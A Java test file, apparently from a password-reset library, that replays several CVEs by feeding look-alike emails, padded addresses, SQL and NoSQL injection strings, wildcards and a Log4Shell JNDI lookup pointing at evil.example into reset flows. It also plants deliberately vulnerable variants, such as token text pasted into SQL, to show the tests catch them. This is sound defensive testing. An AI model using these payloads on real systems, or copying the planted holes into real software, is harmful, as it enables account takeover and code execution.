package dev.resetta.examples.replays;

import static dev.resetta.examples.replays.Application.ADA;
import static dev.resetta.examples.replays.Application.BOB;
import static dev.resetta.examples.replays.Application.NEW;
import static org.assertj.core.api.Assertions.assertThat;

import com.zaxxer.hikari.HikariConfig;
import com.zaxxer.hikari.HikariDataSource;
import dev.resetta.LinkProblem;
import dev.resetta.ResetResult;
import dev.resetta.account.Account;
import dev.resetta.delivery.Notice;
import dev.resetta.examples.demo.MariaDbServer;
import dev.resetta.examples.demo.TestServer;
import dev.resetta.token.TokenPolicy;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterAll;

/** What databases make of text: they fold letters, cut and pad, and take quotes for the end of it. */
class DatabaseTextReplayTest {
    private static final String STORED_ONLY = "mailed to the stored address only";
    private static final String OWN_ACCOUNT = "a link changes its own account only";
    private static final String FITS_NOBODY = "fits nobody's link";
    private static final Account MIKE = Account.of("19", "mike@kelly.example", "hash of mike's old password");
    private static final List<String> LOOK_ALIKES = List.of(
            "m\u00efke@kelly.example", "MIKE@KELLY.EXAMPLE", "m\u00edk\u00e9@kelly.example", "mike@kelly.example   ");

    private static final List<String> QUOTES = List.of(
            "' OR '1'='1",
            "' OR 1=1 --",
            "'",
            "\"",
            "`",
            "\\",
            "\\'",
            "%00",
            "\0",
            "'\0",
            "x'; DROP TABLE users; --",
            "1' UNION SELECT 1 --",
            "\ud800",
            "{\"$ne\": null}",
            "${jndi:ldap://evil.example}",
            "\u02bc OR 1=1");

    private static MariaDbServer server;
    private static HikariDataSource dataSource;

    @AfterAll
    static void end() throws IOException {
        if (server != null) {
            dataSource.close();
            server.close();
        }
    }

    /** A database in the collation that MariaDB gives by default; whoever asks is skipped where no server starts. */
    private static TestDatabase mariaDb() {
        if (server == null) {
            server = TestServer.orSkip("MariaDB", MariaDbServer::open);
            HikariConfig config = new HikariConfig();
            config.setJdbcUrl(server.url());
            config.setUsername("root");
            dataSource = new HikariDataSource(config);
        }
        return TestDatabase.onMariaDb(dataSource);
    }

    private static void lookAlikesGetNothing(Application app) {
        for (String typed : LOOK_ALIKES) {
            assertThat(app.ask(typed))
                    .as(typed)
                    .hasSize(1)
                    .allSatisfy(link ->
                            assertThat(link.to().address()).as(STORED_ONLY).isEqualTo("mike@kelly.example"));
        }
        assertThat(app.ask("m\u0131ke@evil.example")).isEmpty();
    }

    @Replay(
            value = "CVE-2024-27295",
            how =
                    "on MariaDB, by whose collation four look-alikes are found; and no letter of a token is taken in another case")
    void accents() {
        TestDatabase database = mariaDb();
        database.add(MIKE, null, null);
        Application app = database.application(TokenPolicy.oneTime());
        lookAlikesGetNothing(app);

        String token = app.tokenFor(ADA);
        for (int i = 0; i < token.length(); i++) {
            char letter = token.charAt(i);
            char other = Character.isUpperCase(letter) ? Character.toLowerCase(letter) : Character.toUpperCase(letter);
            if (other != letter) {
                assertThat(app.redeems(token.substring(0, i) + other + token.substring(i + 1)))
                        .isFalse();
            }
        }
        assertThat(app.redeems(token)).isTrue();
    }

    @Planted(value = "CVE-2024-27295", how = "on MariaDB: accounts that have the typed address")
    void plantedAccents() {
        TestDatabase database = mariaDb();
        database.add(MIKE, null, null);
        Application app = database.application(TokenPolicy.oneTime());
        app.directory = new TypedAddresses(app.directory);
        Caught.by(STORED_ONLY, () -> lookAlikesGetNothing(app));
    }

    /** The thief registers the victim's address with blanks and an x after it; the column cuts the x off. */
    private static void cutAndPadded(TestDatabase database, Application app) {
        String victims = ADA.address().orElseThrow();
        String padded = victims + " ".repeat(60 - victims.length());
        database.write(
                "INSERT INTO users (id, email, password_hash) VALUES ('thief', LEFT(?, 60), 'hash of the thief')",
                padded + "x");
        List<String> tokens = new ArrayList<>();
        List<Notice.ResetLink> links = app.ask(victims);
        assertThat(links).extracting(link -> link.to().accountId()).contains(ADA.id());
        for (Notice.ResetLink link : links) {
            assertThat(link.to().address())
                    .as(STORED_ONLY)
                    .isEqualTo(link.to().accountId().equals(ADA.id()) ? victims : padded);
            if (link.to().accountId().equals("thief")) {
                tokens.add(link.link().replaceFirst(".*=", ""));
            }
        }
        assertThat(tokens).as("the database takes the two for equal").hasSize(1);
        assertThat(app.redeem(tokens.get(0), NEW)).isEqualTo(new ResetResult.Changed("thief"));
        assertThat(database.read("SELECT password_hash FROM users WHERE id = '17'")
                        .get(0))
                .as(OWN_ACCOUNT)
                .containsValue(ADA.passwordHash().orElseThrow());
        assertThat(app.ask(victims + " ".repeat(300 - victims.length()) + "x")).isEmpty();
        assertThat(app.ask("ada@example.com" + "x".repeat(285))).isEmpty();
    }

    @Replay(
            value = "CVE-2008-4106",
            how =
                    "on MariaDB, a row whose address is the victim's, padded with blanks; its link is used; 300 characters are typed")
    void cutNames() {
        TestDatabase database = mariaDb();
        cutAndPadded(database, database.application(TokenPolicy.oneTime()));
    }

    @Planted(value = "CVE-2008-4106", how = "on MariaDB: an updater that writes to whoever has the address")
    void plantedUpdateByAddress() {
        TestDatabase database = mariaDb();
        Application app = database.application(TokenPolicy.oneTime());
        app.directory = new StaleAccounts(app.directory);
        app.updater = update -> database.write(
                        "UPDATE users SET password_hash = ? WHERE email = ?",
                        update.newHash(),
                        update.account().address().orElseThrow())
                > 0;
        Caught.by(OWN_ACCOUNT, () -> cutAndPadded(database, app));
    }

    private static void refused(Application app, List<String> tokens) {
        app.tokenFor(BOB);
        for (String token : tokens) {
            assertThat(app.redeem(token, NEW))
                    .as(FITS_NOBODY)
                    .isEqualTo(new ResetResult.LinkRefused(LinkProblem.INVALID));
            assertThat(app.reset().cancel(token)).isFalse();
            assertThat(app.ask(token)).isEmpty();
        }
        assertThat(List.of(ADA, BOB)).allMatch(app::isUntouched);
    }

    @Replay(
            value = "CVE-2008-3681",
            how =
                    "on MariaDB, PostgreSQL and H2: sixteen texts with quotes, NUL, halves of characters as token, cancel token and address")
    void quotes() {
        for (TokenPolicy policy : Application.POLICIES) {
            for (TestDatabase database : List.of(mariaDb(), TestDatabase.postgreSql(), TestDatabase.h2())) {
                refused(database.application(policy), QUOTES);
            }
        }
    }

    @Planted(value = "CVE-2008-3681", how = "an issuer that pastes the token into its SQL")
    void plantedPasting() {
        TestDatabase database = TestDatabase.h2();
        Application app = database.application(TokenPolicy.oneTime());
        app.issuer = new TokenColumn(
                (stored, token) -> !database.read("SELECT 1 FROM users WHERE second_factor = '" + token + "'")
                        .isEmpty());
        Caught.by(FITS_NOBODY, () -> refused(app, QUOTES));
    }

    @Replay(
            value = {"CVE-2020-1772", "CVE-2018-10081"},
            how = "on MariaDB: wildcards and numbers as token and cancel token")
    void wildcardsAndNumbers() {
        for (TokenPolicy policy : Application.POLICIES) {
            refused(
                    mariaDb().application(policy),
                    List.of("%", "_", "_".repeat(43), "*", ".*", "0", "0e0", "1", "true", "NULL"));
        }
    }
}
